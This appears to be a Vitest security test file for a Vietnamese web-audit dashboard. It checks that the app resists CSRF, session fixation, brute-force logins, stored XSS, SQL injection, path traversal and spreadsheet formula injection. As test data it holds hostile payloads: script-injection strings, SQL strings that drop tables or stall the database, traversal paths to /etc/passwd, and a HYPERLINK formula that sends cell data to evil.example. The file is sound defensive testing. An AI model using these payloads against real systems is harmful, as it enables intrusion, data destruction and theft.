// Attacks over HTTP against the running dashboard: CSRF on every mutation, session fixation,
// login throttling, stored XSS from crawled content (plus one real Chromium check that a
// stored snapshot's script does not run), SQL injection on every filter and id, path
// traversal on downloads, formula injection into a generated report. docs/security.md lists
// each attempt with its result.
import { createHash } from "node:crypto";
import { brotliCompressSync } from "node:zlib";
import ExcelJS from "exceljs";
import { chromium } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { hashApiToken } from "../../app/lib/api.server.ts";
import { LOGIN_MAX_FAILURES, LOGIN_MAX_FAILURES_PER_IP } from "../../app/lib/auth.server.ts";
import { SNAPSHOT_CSP } from "../../app/routes/ban-goc.$pageId.tsx";
import { PASSWORD } from "../e2e/seed.ts";
import { isLoginRedirect, login, rawGet, send, startWorld, tokenFromSetCookie, type Session, type World } from "./http.ts";
import { MATRIX, USERS, type Ctx, type Role } from "./routes.ts";

let w: World;
const S: Partial<Record<Exclude<Role, "anonymous">, Session>> = {};
const API_TOKEN = "tt_attacktesttoken_0123456789abcdef";

beforeAll(async () => {
  w = await startWorld();
  for (const r of ["inspector", "unit_head", "province"] as const) S[r] = await login(w, USERS[r]);
  await w.db.knex("api_tokens").insert({ name: "Hệ thống thử", token_hash: hashApiToken(API_TOKEN) });
}, 180_000);

afterAll(async () => {
  await w?.close();
});

const ctxOf = (): Ctx => ({
  A: w.seed.units.soA,
  B: w.seed.units.soB,
  pageA: w.seed.pages.homeA,
  pageB: w.seed.pages.homeB,
  reportProvince: 0,
  reportA: 0,
  reportB: 0,
});

// ---------------------------------------------------------------------------------------------
describe("CSRF", () => {
  it("refuses every mutation without, with a wrong, and with another session's token (403)", async () => {
    const ctx = ctxOf();
    const wrong: string[] = [];
    let tried = 0;
    for (const [file, cases] of Object.entries(MATRIX)) {
      if (file === "dang-nhap.tsx") continue; // public: there is no session to forge for
      for (const c of cases.filter((x) => x.method === "POST")) {
        for (const role of ["inspector", "unit_head", "province"] as const) {
          // Allowed for the role (a 400 is the action's own refusal of the sample values).
          if (c.expect[role] !== "ok" && c.expect[role] !== 400) continue;
          const session = c.fresh ? await login(w, USERS[role]) : S[role]!;
          const other = role === "inspector" ? S.province! : S.inspector!;
          const form = Object.fromEntries(Object.entries(c.form ?? {}).map(([k, v]) => [k, v === "__A__" ? String(ctx.A) : v === "__B__" ? String(ctx.B) : v]));
          for (const [label, extra] of [
            ["no token", { withCsrf: false }],
            ["wrong token", { form: { ...form, _csrf: "x".repeat(session.csrf.length) } }],
            ["empty token", { form: { ...form, _csrf: "" } }],
            ["another session's token", { form: { ...form, _csrf: other.csrf } }],
          ] as const) {
            const a = await send(w, "POST", c.path(ctx), { session, form, multipart: c.multipart, ...extra });
            tried++;
            if (a.status !== 403) wrong.push(`${c.path(ctx)} as ${role}, ${label}: ${a.status}`);
            else expect(a.body).toContain("CSRF");
          }
          // The refused logout did not end the session.
          if (c.fresh) expect((await send(w, "GET", "/", { session })).status).toBe(200);
        }
      }
    }
    expect(tried).toBeGreaterThan(60);
    expect(wrong).toEqual([]);
  }, 60_000);

  it("aborts a cross-site login form (login CSRF): no session is set for the attacker's account", async () => {
    const a = await send(w, "POST", "/dang-nhap", { headers: { origin: "https://evil.example" }, form: { username: "tinh", password: PASSWORD, next: "/" } });
    expect(a.status).toBeGreaterThanOrEqual(400);
    expect(a.setCookie).toBeNull();
    // Same-origin (or no Origin, as curl sends) works.
    const ok = await send(w, "POST", "/dang-nhap", { headers: { origin: w.server.url }, form: { username: "tinh", password: PASSWORD, next: "/" } });
    expect(tokenFromSetCookie(ok.setCookie)).toBeTruthy();
  });

  it("changes nothing when the token is missing, and the same request with the token does", async () => {
    const { knex } = w.db;
    const schedule = async () => (await knex("settings").where({ key: "audit_schedule" }).first())?.value;
    const logCount = async () => Number((await knex("audit_log").count<{ c: string }[]>("* as c"))[0].c);
    const before = await schedule();
    const logsBefore = await logCount();
    const form = { intent: "schedule", cron: "0 3 * * 2" };
    expect((await send(w, "POST", "/kiem-tra", { session: S.inspector, form, withCsrf: false })).status).toBe(403);
    expect((await send(w, "POST", "/kiem-tra", { session: S.inspector, form: { ...form, _csrf: S.province!.csrf } })).status).toBe(403);
    // A cross-site form (Origin of another host) is refused by the edge before the action runs,
    // even with a valid token: 403, nothing changed (test/security/edge.test.ts covers every route).
    for (const withCsrf of [false, true]) {
      const x = await send(w, "POST", "/kiem-tra", { session: S.inspector, form, withCsrf, headers: { origin: "https://evil.example" } });
      expect(x.status).toBe(403);
    }
    expect(await schedule()).toEqual(before);
    expect(await logCount()).toBe(logsBefore);
    const ok = await send(w, "POST", "/kiem-tra", { session: S.inspector, form });
    expect(ok.status).toBe(200);
    expect(await schedule()).toBe("0 3 * * 2");
    expect(await logCount()).toBe(logsBefore + 1);
    await knex("settings").where({ key: "audit_schedule" }).update({ value: JSON.stringify(before) });
  });
});

// ---------------------------------------------------------------------------------------------
describe("sessions", () => {
  it("issues a new session id at login; an id planted before login is never accepted", async () => {
    const planted = "attacker-chosen-session-id-0123456789";
    const page = await send(w, "GET", "/dang-nhap", { cookie: `tt_session=${planted}` });
    expect(page.status).toBe(200);
    expect(page.setCookie ?? "").not.toContain(planted);
    const res = await send(w, "POST", "/dang-nhap", { cookie: `tt_session=${planted}`, form: { username: "kiemtra", password: PASSWORD, next: "/" } });
    expect(res.status).toBe(302);
    const token = tokenFromSetCookie(res.setCookie)!;
    expect(token).toBeTruthy();
    expect(token).not.toBe(planted);
    expect(isLoginRedirect(await send(w, "GET", "/", { cookie: `tt_session=${planted}` }))).toBe(true);
    expect((await send(w, "GET", "/", { cookie: `tt_session=${token}` })).status).toBe(200);
  });

  it("replaces (and ends) a valid session planted by an attacker when the victim logs in", async () => {
    const attacker = await login(w, "tinh");
    const res = await send(w, "POST", "/dang-nhap", { cookie: `tt_session=${attacker.token}`, form: { username: "kiemtra", password: PASSWORD, next: "/" } });
    const victim = tokenFromSetCookie(res.setCookie)!;
    expect(victim).not.toBe(attacker.token);
    // The attacker's id does not become the inspector's session; it is not valid any more at all.
    expect(isLoginRedirect(await send(w, "GET", "/quan-ly", { cookie: `tt_session=${attacker.token}` }))).toBe(true);
    expect((await send(w, "GET", "/quan-ly", { cookie: `tt_session=${victim}` })).status).toBe(200);
  });

  it("stores only hashes of session ids, sets httpOnly SameSite=Lax cookies, and ends the session at logout", async () => {
    const s = await login(w, "thutruong.b");
    const ids = (await w.db.knex("sessions").select("id")).map((r) => r.id as string);
    expect(ids).not.toContain(s.token);
    expect(ids).toContain(createHash("sha256").update(s.token).digest("hex"));
    const res = await send(w, "POST", "/dang-nhap", { form: { username: "thutruong.b", password: PASSWORD } });
    expect(res.setCookie).toMatch(/HttpOnly/i);
    expect(res.setCookie).toMatch(/SameSite=Lax/i);
    expect(res.setCookie).not.toMatch(/Secure/i);
    // Behind HTTPS (X-Forwarded-Proto, trusted from any peer: a documented limit) the cookie is Secure.
    const tls = await send(w, "POST", "/dang-nhap", { headers: { "x-forwarded-proto": "https" }, form: { username: "thutruong.b", password: PASSWORD } });
    expect(tls.setCookie).toMatch(/; Secure/);
    // Every page carries the basic security headers.
    const home = await send(w, "GET", "/", { session: s });
    expect(home.headers.get("x-frame-options")).toBe("SAMEORIGIN");
    expect(home.headers.get("x-content-type-options")).toBe("nosniff");
    expect(home.headers.get("referrer-policy")).toBe("same-origin");
    expect(home.headers.get("x-powered-by")).toBeNull();
    const out = await send(w, "POST", "/dang-xuat", { session: s });
    expect(out.status).toBe(302);
    expect(out.setCookie).toMatch(/Max-Age=0/);
    expect(isLoginRedirect(await send(w, "GET", "/", { session: s }))).toBe(true);
  });

  it("throttles a username after repeated failures, even with the right password then", async () => {
    const ip = { "x-forwarded-for": "203.0.113.7" }; // trusted from a loopback peer (see docs/security.md)
    for (let i = 0; i < LOGIN_MAX_FAILURES; i++) {
      const a = await send(w, "POST", "/dang-nhap", { headers: ip, form: { username: "tinh", password: `sai-${i}` } });
      expect(a.status).toBe(200);
      expect(a.setCookie).toBeNull();
    }
    for (const username of ["tinh", "  tinh  "]) {
      const blocked = await send(w, "POST", "/dang-nhap", { headers: ip, form: { username, password: PASSWORD } });
      expect(blocked.setCookie).toBeNull();
      expect(blocked.body).toContain("Vui lòng thử lại sau");
    }
    // Another account from the same address still logs in (per-address limit is higher).
    const other = await send(w, "POST", "/dang-nhap", { headers: ip, form: { username: "kiemtra", password: PASSWORD } });
    expect(tokenFromSetCookie(other.setCookie)).toBeTruthy();
    const throttled = await w.db.knex("audit_log").where({ action: "login.throttled", actor: "tinh" }).count<{ c: string }[]>("* as c");
    expect(Number(throttled[0].c)).toBeGreaterThanOrEqual(1);
  });

  it("throttles an address after many failures over any usernames", async () => {
    const ip = { "x-forwarded-for": "198.51.100.9" };
    for (let i = 0; i < LOGIN_MAX_FAILURES_PER_IP; i++) {
      await send(w, "POST", "/dang-nhap", { headers: ip, form: { username: `khong-co-${i}`, password: "x" } });
    }
    const blocked = await send(w, "POST", "/dang-nhap", { headers: ip, form: { username: "kiemtra", password: PASSWORD } });
    expect(blocked.setCookie).toBeNull();
    expect(blocked.body).toContain("Vui lòng thử lại sau");
  }, 30_000);
});

// ---------------------------------------------------------------------------------------------
const XSS = {
  title: `<script>window.top.pwned=1</script>Trang có mã độc`,
  url: `https://soa.example.gov.vn/"><script>window.top.pwned=5</script>`,
  message: `<img src=x onerror="window.top.pwned=2">Thiếu chuyên mục thử`,
  snippet: `</q><script>document.title='pwned'</script>`,
  preview: `<svg onload="window.top.pwned=3"></svg>`,
  itemTitle: `<script>window.top.pwned=4</script>Tin có mã độc`,
};
const RAW_MARKERS = ["<script>window.top.pwned", "<img src=x onerror", "<svg onload", "<script>document.title='pwned'"];
const SNAPSHOT_HTML =
  `<!doctype html><html><head><meta charset="utf-8"><title>Bản lưu thử</title></head><body><h1>Bản lưu</h1>` +
  `<script>document.title='pwned';try{window.top.pwned=1}catch(e){};parent.postMessage('snapshot-script-ran','*')</script>` +
  `<img src="x" onerror="parent.postMessage('snapshot-onerror-ran','*')"><a href="javascript:parent.postMessage('js-url','*')">liên kết</a></body></html>`;

async function insertHostilePage(): Promise<{ pageId: number; findingIds: number[] }> {
  const { knex } = w.db;
  const home = await knex("pages").where({ id: w.seed.pages.homeA }).first("site_audit_id");
  const raw = Buffer.from(SNAPSHOT_HTML, "utf8");
  const hash = createHash("sha256").update(raw).digest("hex");
  await knex("snapshots").insert({ hash, body: brotliCompressSync(raw), compression: "br", size_bytes: raw.length }).onConflict("hash").ignore();
  const [p] = await knex("pages")
    .insert({ site_audit_id: home.site_audit_id, url: XSS.url, status: 200, kind: "article", fetched_at: "2026-11-20T02:11:00Z", content_type: "text/html; charset=utf-8", charset_declared: "utf-8", content_hash: hash, size_bytes: raw.length, title: XSS.title })
    .returning("id");
  const findingIds: number[] = [];
  for (const [code, check] of [["encoding.legacy-text", "encoding"], ["identity.phone", "identity"]] as const) {
    const [f] = await knex("findings")
      .insert({ site_audit_id: home.site_audit_id, site_id: w.seed.siteA, unit_id: w.seed.units.soA, page_id: p.id, check_id: check, code, severity: "error", message: XSS.message, url: XSS.url, snippet: XSS.snippet, details: JSON.stringify({ scheme: "TCVN3", preview: XSS.preview }) })
      .returning("id");
    findingIds.push(f.id);
  }
  const novId = w.seed.periods.nov;
  await knex("criterion_scores").where({ period_id: novId, unit_id: w.seed.units.soA, group_code: "unicode" }).update({ finding_ids: knex.raw("finding_ids || ?::int[]", [findingIds]) });
  const audit = await knex("site_audits").where({ id: home.site_audit_id }).first("summary");
  const summary = typeof audit.summary === "string" ? JSON.parse(audit.summary) : audit.summary;
  summary.freshness.items.unshift({ url: XSS.url, published: "2026-11-19", title: XSS.itemTitle });
  await knex("site_audits").where({ id: home.site_audit_id }).update({ summary: JSON.stringify(summary) });
  return { pageId: p.id, findingIds };
}

describe("stored XSS from crawled content", () => {
  let hostile: { pageId: number; findingIds: number[] };
  beforeAll(async () => {
    hostile = await insertHostilePage();
  });

  it("renders crawled titles, messages, snippets and previews escaped on the unit and evidence pages", async () => {
    for (const [session, path] of [
      [S.inspector!, `/don-vi/${w.seed.units.soA}?ky=2026-11`],
      [S.unit_head!, `/don-vi/${w.seed.units.soA}?ky=2026-11`],
      [S.inspector!, `/bang-chung/${hostile.pageId}`],
    ] as const) {
      const a = await send(w, "GET", path, { session });
      expect(a.status, path).toBe(200);
      for (const m of RAW_MARKERS) expect(a.body, `${path}: ${m}`).not.toContain(m);
      // The payload is there, as text.
      expect(a.body, path).toContain("&lt;img src=x onerror=");
    }
    const unit = await send(w, "GET", `/don-vi/${w.seed.units.soA}?ky=2026-11`, { session: S.inspector });
    expect(unit.body).toContain("&lt;script&gt;window.top.pwned=4&lt;/script&gt;Tin có mã độc");
    const ev = await send(w, "GET", `/bang-chung/${hostile.pageId}`, { session: S.inspector });
    expect(ev.body).toMatch(new RegExp(`<iframe[^>]*sandbox=""[^>]*src="/ban-goc/${hostile.pageId}"`));
  });

  it("serves the raw snapshot only under a sandbox CSP with scripts off", async () => {
    const a = await send(w, "GET", `/ban-goc/${hostile.pageId}`, { session: S.inspector });
    expect(a.status).toBe(200);
    expect(a.body).toBe(SNAPSHOT_HTML); // evidence is the page as crawled, byte for byte
    const csp = a.headers.get("content-security-policy") ?? "";
    expect(csp).toBe(SNAPSHOT_CSP);
    expect(csp.split(";").map((d) => d.trim())).toEqual(expect.arrayContaining(["sandbox", "script-src 'none'", "default-src 'none'", "form-action 'none'"]));
    expect(a.headers.get("x-content-type-options")).toBe("nosniff");
  });

  it("runs no script from a stored snapshot or crawled text in real Chromium", async () => {
    const browser = await chromium.launch({
      executablePath: process.env.CHROMIUM_PATH ?? "/usr/bin/chromium",
      args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"],
    });
    try {
      // Control: the same snapshot opened without the viewer does run its script.
      const control = await browser.newPage();
      await control.setContent(SNAPSHOT_HTML);
      expect(await control.title()).toBe("pwned");
      await control.close();

      const context = await browser.newContext({ baseURL: w.server.url });
      await context.addCookies([{ name: "tt_session", value: S.inspector!.token, url: w.server.url }]);
      await context.addInitScript(() => {
        const g = window as unknown as { __messages: unknown[] };
        g.__messages = [];
        window.addEventListener("message", (e) => g.__messages.push(e.data));
      });
      const dialogs: string[] = [];
      const page = await context.newPage();
      page.on("dialog", (d) => {
        dialogs.push(d.message());
        void d.dismiss();
      });
      await page.goto(`/bang-chung/${hostile.pageId}`);
      const frameEl = page.locator(`iframe[src="/ban-goc/${hostile.pageId}"]`);
      await frameEl.waitFor();
      expect(await frameEl.getAttribute("sandbox")).toBe("");
      await page.waitForTimeout(500);
      const state = await page.evaluate(() => ({
        pwned: (window as unknown as { pwned?: unknown }).pwned ?? null,
        title: document.title,
        messages: (window as unknown as { __messages: unknown[] }).__messages,
      }));
      expect(state.pwned).toBeNull();
      expect(state.title).not.toBe("pwned");
      expect(state.messages.filter((m) => typeof m === "string" && /snapshot|js-url/.test(m))).toEqual([]);
      // The frame got the snapshot (it is displayed), it just could not run anything.
      const frame = page.frames().find((f) => f.url().endsWith(`/ban-goc/${hostile.pageId}`));
      expect(frame).toBeDefined();

      await page.goto(`/don-vi/${w.seed.units.soA}?ky=2026-11`);
      await page.waitForTimeout(300);
      expect(await page.evaluate(() => (window as unknown as { pwned?: unknown }).pwned ?? null)).toBeNull();
      expect(await page.title()).not.toBe("pwned");

      // Opened directly, the snapshot's CSP sandbox still keeps its script from running.
      const direct = await context.newPage();
      await direct.goto(`/ban-goc/${hostile.pageId}`);
      await direct.waitForTimeout(300);
      expect(await direct.title()).toBe("Bản lưu thử");
      expect(dialogs).toEqual([]);
    } finally {
      await browser.close();
    }
  }, 60_000);
});

// ---------------------------------------------------------------------------------------------
const SQLI = ["'; drop table units; --", "1 or 1=1", "%' or '1'='1", "1); delete from findings; --", "\\'; select pg_sleep(5); --"];

describe("SQL injection", () => {
  const counts = async () => {
    const out: Record<string, number> = {};
    for (const t of ["units", "sites", "users", "findings", "period_scores", "sessions", "pages"]) {
      out[t] = Number((await w.db.knex(t).count<{ c: string }[]>("* as c"))[0].c);
    }
    return out;
  };

  it("answers every filter, query parameter and id with a refusal or an empty result, never a 500 or extra rows", async () => {
    const before = await counts();
    const A = w.seed.units.soA;
    const e = encodeURIComponent;
    const unitNames = ["Sở Tài chính", "UBND huyện Đức Linh"];
    const fails: string[] = [];
    for (const p of SQLI) {
      // Filters that must narrow to nothing.
      const filters: [Session, string][] = [
        [S.inspector!, `/?q=${e(p)}`],
        [S.inspector!, `/?nhom=${e(p)}`],
        [S.inspector!, `/?xep-loai=${e(p)}`],
        [S.unit_head!, `/?q=${e(p)}`],
        [S.inspector!, `/quan-ly/don-vi?q=${e(p)}`],
      ];
      for (const [session, path] of filters) {
        const a = await send(w, "GET", path, { session });
        if (a.status !== 200) fails.push(`${path}: ${a.status}`);
        for (const n of unitNames) if (a.body.includes(n)) fails.push(`${path}: leaks ${n}`);
      }
      // Parameters that fall back to a default or are refused.
      const others = [
        `/?ky=${e(p)}`,
        `/?trang=${e(p)}`,
        `/don-vi/${A}?ky=${e(p)}`,
        `/quan-ly/bo-tieu-chi?v=${e(p)}`,
        `/quan-ly/ngay-nghi?nam=${e(p)}`,
        `/don-vi/${e(p)}`,
        `/ban-goc/${e(p)}`,
        `/bang-chung/${e(p)}`,
        `/bao-cao/luu/${e(p)}`,
        `/quan-ly/don-vi/${e(p)}`,
        `/dang-nhap?next=${e(p)}`,
      ];
      for (const path of others) {
        const a = await send(w, "GET", path, { session: S.inspector });
        if (a.status >= 500) fails.push(`${path}: ${a.status}`);
      }
      const auth = { authorization: `Bearer ${API_TOKEN}` };
      const api: [string, number | null][] = [
        [`/api/v1/periods/${e(p)}/scores`, 404],
        [`/api/v1/periods/2026-11/scores?group=${e(p)}`, 200],
        [`/api/v1/units/${e(p)}/findings?period=2026-11`, 400],
        [`/api/v1/units/${A}/findings?period=${e(p)}`, 404],
        [`/api/v1/units/${A}/findings?period=2026-11&limit=${e(p)}&offset=${e(p)}`, 200],
      ];
      for (const [path, want] of api) {
        const a = await send(w, "GET", path, { headers: auth });
        if (a.status !== want) fails.push(`${path}: ${a.status}`);
        if (path.includes("group=") && JSON.parse(a.body).scores.length !== 0) fails.push(`${path}: rows`);
      }
      // The login form: not logged in, not a 500.
      const li = await send(w, "POST", "/dang-nhap", { headers: { "x-forwarded-for": "192.0.2.44" }, form: { username: p, password: p } });
      if (li.status !== 200 || li.setCookie) fails.push(`login ${p}: ${li.status} ${li.setCookie}`);
      // A mutation's text fields are parameters too (the search box of the unit list and a new unit).
      const mu = await send(w, "POST", "/quan-ly/don-vi", { session: S.inspector, form: { code: p, name: p, unitType: p, groupCode: p, website: p } });
      if (mu.status !== 200) fails.push(`POST /quan-ly/don-vi: ${mu.status}`);
    }
    expect(fails).toEqual([]);
    expect(await counts()).toEqual(before);
    for (const t of ["units", "findings", "users"]) {
      expect((await w.db.knex.raw("select to_regclass(?) as r", [t])).rows[0].r).toBe(t);
    }
  }, 60_000);
});

describe("out-of-range and odd numeric ids", () => {
  const ODD = ["2147483648", "99999999999999999999999", "1e300", "-0", "Infinity", "NaN", "0x7fffffff", "1.5", "-1"];

  it("answers ids in paths and forms that overflow an integer column with 400/404 or a form error, never a 500", async () => {
    const A = w.seed.units.soA;
    const fails: string[] = [];
    for (const v of ODD) {
      const e = encodeURIComponent(v);
      for (const path of [`/don-vi/${e}`, `/ban-goc/${e}`, `/bang-chung/${e}`, `/bao-cao/luu/${e}`, `/quan-ly/don-vi/${e}`, `/quan-ly/bo-tieu-chi?v=${e}`]) {
        const a = await send(w, "GET", path, { session: S.inspector });
        if (a.status >= 500) fails.push(`GET ${path}: ${a.status}`);
      }
      for (const path of [`/?trang=${e}`, `/?nhom=so-nganh&trang=${e}`]) {
        const a = await send(w, "GET", path, { session: S.inspector });
        if (a.status >= 500) fails.push(`GET ${path}: ${a.status}`);
      }
      for (const path of [`/api/v1/units/${e}/findings?period=2026-11`, `/api/v1/units/${A}/findings?period=2026-11&limit=${e}&offset=${e}`]) {
        const api = await send(w, "GET", path, { headers: { authorization: `Bearer ${API_TOKEN}` } });
        if (api.status >= 500) fails.push(`GET ${path}: ${api.status}`);
      }
      const posts: [string, Record<string, string>][] = [
        ["/kiem-tra", { intent: "audit-site", siteId: v }],
        ["/kiem-tra", { intent: "audit-unit", unitId: v }],
        ["/quan-ly/khoa-api", { intent: "revoke", id: v }],
        ["/quan-ly/nguoi-dung", { intent: "active", userId: v, active: "true" }],
        ["/quan-ly/bo-tieu-chi", { intent: "remove", versionId: v, code: "x" }],
        [`/quan-ly/don-vi/${A}`, { intent: "site-active", siteId: v, active: "true" }],
        [`/quan-ly/don-vi/${A}`, { intent: "site-update", siteId: v, baseUrl: "https://moi.example.gov.vn/", renderMode: "auto" }],
        [`/don-vi/${A}`, { intent: "decide", appealId: v, decision: "accept", reason: "kiểm tra số lớn" }],
        [`/don-vi/${e}`, { intent: "decide", appealId: "1", decision: "accept", reason: "kiểm tra số lớn" }],
        ["/bao-cao/tai", { ky: "2026-11", nhap: "1", donVi: v }],
      ];
      for (const [path, form] of posts) {
        const a = await send(w, "POST", path, { session: S.inspector, form });
        if (a.status >= 500) fails.push(`POST ${path} ${JSON.stringify(form)}: ${a.status}`);
      }
      const fileAppeal = await send(w, "POST", `/don-vi/${A}`, { session: S.unit_head, form: { intent: "file", findingId: v, explanation: "Giải trình thử nghiệm đủ dài." } });
      if (fileAppeal.status >= 500) fails.push(`POST file appeal findingId=${v}: ${fileAppeal.status}`);
    }
    expect(fails).toEqual([]);
    // A site update with a malformed id created no site.
    expect(await w.db.knex("sites").where({ base_url: "https://moi.example.gov.vn/" }).first()).toBeUndefined();
  }, 60_000);
});

// ---------------------------------------------------------------------------------------------
describe("path traversal on downloads", () => {
  const LEAKS = ["root:x:0:0", '"name": "', "DATABASE_URL", "createRequestHandler", "password_hash"];

  it("answers 400/403/404 to traversal and non-numeric ids, never file contents", async () => {
    const cookie = `tt_session=${S.inspector!.token}`;
    const paths = [
      "/bao-cao/luu/..%2f..%2fetc%2fpasswd",
      "/bao-cao/luu/..%2F..%2F..%2Fpackage.json",
      "/bao-cao/luu/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
      "/bao-cao/luu/1%00.xlsx",
      "/bao-cao/luu/abc",
      "/bao-cao/luu/-1",
      "/bao-cao/luu/1.5",
      "/bao-cao/luu/99999999999999999999999",
      "/ban-goc/..%2f..%2fetc%2fpasswd",
      "/ban-goc/%2e%2e%2f%2e%2e%2f",
      "/ban-goc/..%5c..%5cwindows%5cwin.ini",
      "/ban-goc/abc",
      "/ban-goc/0x1",
      "/ban-goc/1e0",
      "/bang-chung/..%2f..%2f",
      "/assets/..%2f..%2fpackage.json",
      "/assets/%2e%2e/%2e%2e/package.json",
      "/assets/../../package.json",
      "/..%2f..%2fetc%2fpasswd",
      "/%2e%2e/%2e%2e/etc/passwd",
      "/../server/index.js",
      "/%2e%2e/server/index.js",
      "/..%2fserver%2findex.js",
    ];
    const fails: string[] = [];
    for (const p of paths) {
      const a = await rawGet(w, p, cookie);
      if (![400, 403, 404].includes(a.status)) fails.push(`${p}: ${a.status} ${a.location ?? ""}`);
      for (const l of LEAKS) if (a.body.includes(l)) fails.push(`${p}: body contains ${l}`);
    }
    expect(fails).toEqual([]);
  });

  it("normalises dot segments in the URL before routing: /ban-goc/../../ is the ranking page, not a file", async () => {
    const a = await rawGet(w, "/ban-goc/../../", `tt_session=${S.inspector!.token}`);
    expect(a.status).toBe(200);
    expect(a.body).toContain("Xếp hạng");
    for (const l of LEAKS) expect(a.body).not.toContain(l);
  });
});

// ---------------------------------------------------------------------------------------------
describe("formula injection into reports", () => {
  it("writes crawled text that looks like a formula as plain strings in the downloaded report", async () => {
    const { knex } = w.db;
    const home = await knex("pages").where({ id: w.seed.pages.homeA }).first("site_audit_id");
    const evil = [`=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd|' /C calc'!A0`, `-2+3+cmd|' /C calc'!A0`];
    const ids: number[] = [];
    const codes = ["identity.address", "identity.phone", "identity.unit-name", "identity.responsible-person"];
    for (const [i, m] of evil.entries()) {
      const [f] = await knex("findings")
        .insert({ site_audit_id: home.site_audit_id, site_id: w.seed.siteA, unit_id: w.seed.units.soA, page_id: w.seed.pages.homeA, check_id: "identity", code: codes[i], severity: "error", message: m, url: "https://soa.example.gov.vn/", snippet: m, details: JSON.stringify({}) })
        .returning("id");
      ids.push(f.id);
    }
    await knex("criterion_scores").where({ period_id: w.seed.periods.nov, unit_id: w.seed.units.soA, group_code: "dinh-danh" }).update({ finding_ids: knex.raw("finding_ids || ?::int[]", [ids]) });
    const res = await fetch(`${w.server.url}/bao-cao/tai`, {
      method: "POST",
      headers: { cookie: `tt_session=${S.inspector!.token}` },
      body: new URLSearchParams({ _csrf: S.inspector!.csrf, ky: "2026-11", nhap: "1", donVi: String(w.seed.units.soA) }),
    });
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/spreadsheetml/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(new Uint8Array(await res.arrayBuffer()) as never);
    let formulas = 0;
    const found = new Set<string>();
    for (const ws of wb.worksheets) {
      ws.eachRow({ includeEmpty: false }, (row) =>
        row.eachCell({ includeEmpty: false }, (cell) => {
          if (cell.type === ExcelJS.ValueType.Formula || cell.formula) formulas++;
          // Merged cells (the reports' headings) carry their master's value, read there.
          const text = typeof cell.value === "string" ? cell.value : cell.type === ExcelJS.ValueType.Merge ? "" : cell.text;
          for (const m of evil) if (text.includes(m)) {
            found.add(m);
            expect(cell.type, m).toBe(ExcelJS.ValueType.String);
          }
        }),
      );
    }
    expect(formulas).toBe(0);
    expect([...found].sort()).toEqual([...evil].sort());
  }, 30_000);
});
